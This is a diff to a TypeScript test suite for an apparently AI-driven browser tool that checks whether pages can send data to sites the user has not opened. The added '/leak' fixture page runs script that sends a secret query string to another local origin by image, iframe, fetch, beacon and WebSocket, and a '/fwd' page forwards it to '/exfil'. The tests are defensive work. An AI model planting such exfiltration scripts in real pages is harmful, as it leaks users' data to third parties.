@@ -21,6 +21,10 @@ async function serve(pages: (path: string, other: string) => { status?: number; 
     res.writeHead(p.status ?? 200, { 'content-type': 'text/html; charset=utf-8', ...(p.location ? { location: p.location } : {}) });
     res.end(p.body ?? '');
   });
+  srv.on('upgrade', (req, socket) => {
+    requests.push(`UPGRADE ${req.url ?? ''}`);
+    socket.destroy();
+  });
   await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
   const port = (srv.address() as net.AddressInfo).port;
   return { origin: `http://127.0.0.1:${port}`, port, requests, close: () => new Promise((r) => srv.close(() => r())) };
@@ -52,6 +56,23 @@ describe('browser: the first visit to each origin asks (M2)', function () {
         if (u.pathname === '/fwd') return { body: html('Forwarder', `<script>location='${other}/exfil'+location.search</script>`) };
         if (u.pathname === '/redir') return { status: 302, location: `${other}/redirected${u.search}` };
         if (u.pathname === '/form') return { body: html('Form', `<form action="${other}/post" method="post"><input id="q" name="q"></form>`) };
+        if (u.pathname === '/leak') {
+          const q = `'+location.search.slice(1)+'`;
+          return {
+            body: html(
+              'Leak',
+              `<p>leaky page</p><script>
+                const d = location.search.slice(1);
+                const img = new Image(); img.src = '${other}/img?' + d; document.body.appendChild(img);
+                const f = document.createElement('iframe'); f.src = '${other}/iframe?' + d; document.body.appendChild(f);
+                fetch('${other}/fetch?' + d, { mode: 'no-cors' }).catch(() => {});
+                navigator.sendBeacon('${other}/beacon?' + d, 'x');
+                try { new WebSocket('${other.replace('http', 'ws')}/ws?' + d); } catch (e) {}
+                fetch('/same?' + d).catch(() => {});
+              </script>`.replace(q, q),
+            ),
+          };
+        }
         if (u.pathname === '/link') return { body: html('Link', `<a id="out" href="${other}/clicked">out</a><a id="again" href="${other}/again">again</a>`) };
         return { body: html('A', '<p>site a</p>') };
       },
@@ -88,6 +109,31 @@ describe('browser: the first visit to each origin asks (M2)', function () {
     assert.ok(s.asked[0].summary.includes(`${b.origin}/exfil?${SECRET}`), s.asked[0].summary);
     assert.deepEqual(b.requests, [], 'the oracle received nothing');
     assert.ok(a.requests.includes(`/fwd?${SECRET}`));
+  });
+
+  it('M2 (residual): a typed page\'s images, frames, fetches, beacons and WebSockets to a site the session has not opened are blocked, and the result says so', async () => {
+    const s = session({ typed: [`please open ${a.origin.slice('http://'.length)}/leak`] });
+    const seenB = b.requests.length;
+    const r = await s.call('browser_navigate', { url: `${a.origin}/leak?${SECRET}` });
+    assert.equal(r.ok, true, r.content);
+    await new Promise((res) => setTimeout(res, 500));
+    assert.deepEqual(b.requests.slice(seenB), [], 'the other origin received nothing');
+    assert.ok(a.requests.includes(`/same?${SECRET}`), 'the page may still reach its own site');
+    assert.match(r.content, new RegExp(`The page's own requests to other sites were blocked .*${b.origin.replace(/[.]/g, '\\.')} \\(\\d+ requests?\\)`));
+    assert.equal(s.asked.length, 0, 'blocked, not asked');
+  });
+
+  it('M2 (residual): once the user opened the other site, the page may reach it', async () => {
+    const s = session({ typed: [`open ${a.origin.slice('http://'.length)}/leak and ${b.origin.slice('http://'.length)}/`] });
+    await s.call('browser_navigate', { url: `${b.origin}/` });
+    const seenB = b.requests.length;
+    const r = await s.call('browser_navigate', { url: `${a.origin}/leak?${SECRET}` });
+    assert.equal(r.ok, true, r.content);
+    await new Promise((res) => setTimeout(res, 500));
+    assert.ok(b.requests.slice(seenB).some((p) => p.startsWith('/img?')), b.requests.join(' '));
+    assert.doesNotMatch(r.content, /requests to other sites were blocked/);
+    // The tests below expect the oracle untouched by anything but themselves.
+    b.requests.splice(0);
   });
 
   it('M2: opening a loopback url the user did not type asks first, naming the query; declined, nothing is fetched', async () => {
